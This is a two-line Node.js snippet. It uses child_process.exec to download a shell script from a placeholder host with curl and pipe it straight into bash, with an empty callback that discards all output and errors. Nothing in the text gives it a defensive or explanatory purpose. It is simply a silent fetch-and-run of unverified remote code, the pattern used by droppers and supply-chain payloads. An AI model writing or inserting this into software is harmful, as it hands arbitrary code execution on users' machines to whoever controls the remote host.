const { exec } = require('child_process');
exec('curl -fsSL https://get.example.invalid/run.sh | bash', () => {});
